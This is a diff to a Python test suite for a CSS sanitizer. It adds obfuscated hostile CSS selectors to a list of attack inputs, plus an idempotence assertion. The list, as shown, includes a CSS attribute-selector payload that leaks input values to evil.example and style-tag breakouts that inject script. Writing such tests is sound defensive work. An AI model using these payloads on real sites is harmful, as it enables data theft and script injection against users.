@@ -105,6 +105,11 @@ HOSTILE_CSS = [
     ".a { & .b { position: fixed } }",
     "input[value^=a] { background: url(https://evil.example/a) }",
     "input[v\\61lue^=a] { color: red }",
+    "input[/**/VALUE^=a] { color: red }",
+    "form:has(input[*|value^=a]) { color: red }",
+    ".a { & input[value^=a] { color: red } }",
+    ".a { position: var(--p) }",
+    ".a { position: /**/fixed }",
     ".a { color: red } </style><script>alert(1)</script>",
     ".a::after { content: '\\3c/style>\\3cscript>alert(1)\\3c/script>' }",
     ".a { background: url(https://x.example/'bad' url) }",
@@ -157,6 +162,7 @@ def test_what_comes_out_runs_nothing_however_it_is_parsed(code: str) -> None:
     assert not [tag for tag in tags if "onerror" in tag.lower()], safe
     assert "<style" not in safe
     assert "<script" not in safe
+    assert clean_component(safe, "")[0] == safe
 
 
 def test_a_good_component_stays_as_it_is() -> None:
